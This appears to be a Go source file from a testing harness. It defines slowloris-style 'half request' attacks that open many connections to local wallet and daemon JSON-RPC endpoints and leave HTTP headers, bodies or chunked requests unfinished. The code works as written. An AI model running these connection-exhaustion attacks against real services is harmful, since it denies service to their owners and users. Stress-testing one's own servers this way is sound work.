package main

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// halfRequests are requests that stop before their end, on as many connections as are let in.
func halfRequests(*world) (all []attack, err error) {
	const head = "POST /json_rpc HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
	add := func(operation, kind string, text func(size int) string) {
		for _, at := range []*place{wallets, daemons} {
			all = append(all, attack{"half a request", operation + ", " + at.name, kind, at, func(ctx context.Context, v *victim, size int) (int64, error) {
				v.wanted = at == wallets // it is fresh when the next one comes: all places may be taken for a while
				const connections = 100
				b := text(size / connections)
				var sent atomic.Int64
				var group sync.WaitGroup
				var open [connections]net.Conn
				for i := range connections {
					group.Go(func() {
						d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(2+i/20))}, Timeout: attackLimit}
						c, err := d.DialContext(ctx, "tcp", strings.TrimPrefix(v.url, "http://"))
						if err != nil {
							return
						}
						open[i] = c
						_ = c.SetWriteDeadline(time.Now().Add(attackLimit))
						if n, err := c.Write([]byte(b)); err == nil {
							sent.Add(int64(n))
						}
					})
				}
				group.Wait()
				time.Sleep(peerPatience)
				for _, c := range open {
					if c != nil {
						_ = c.Close()
					}
				}
				return max(sent.Load(), 1), nil
			}})
		}
	}
	add("header", "one long field", func(size int) string { return head + "X: " + strings.Repeat("a", min(size, 60<<10)) })
	add("header", "many short fields", func(size int) string { return head + strings.Repeat("A: b\r\n", min(size, 60<<10)/6) })
	add("body", "all but a byte", func(size int) string {
		return fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s", head, size+1, strings.Repeat(" ", size))
	})
	add("body", "one byte of the longest", func(int) string { return fmt.Sprintf("%sContent-Length: %d\r\n\r\n ", head, 1<<20-1) })
	add("body", "a chunk, but a byte", func(size int) string {
		return fmt.Sprintf("%sTransfer-Encoding: chunked\r\n\r\n%x\r\n%s", head, size+1, strings.Repeat(" ", size))
	})
	add("requests", "one behind the other, their answers not taken", func(size int) string {
		const one = `{"id":0,"method":"get_version"}`
		request := fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s", head, len(one), one)
		return strings.Repeat(request, max(size/len(request), 1))
	})
	return all, nil
}
